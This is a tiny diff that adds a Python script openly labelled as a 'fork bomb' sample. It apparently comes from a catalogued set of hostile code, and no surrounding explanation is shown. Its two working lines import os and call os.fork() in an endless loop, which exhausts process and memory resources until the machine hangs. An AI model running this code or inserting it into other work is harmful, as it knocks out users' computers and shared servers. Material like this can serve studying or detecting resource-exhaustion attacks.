@@ -1,0 +1,3 @@
+# class: fork bomb; style: two lines
+import os
+while True: os.fork()
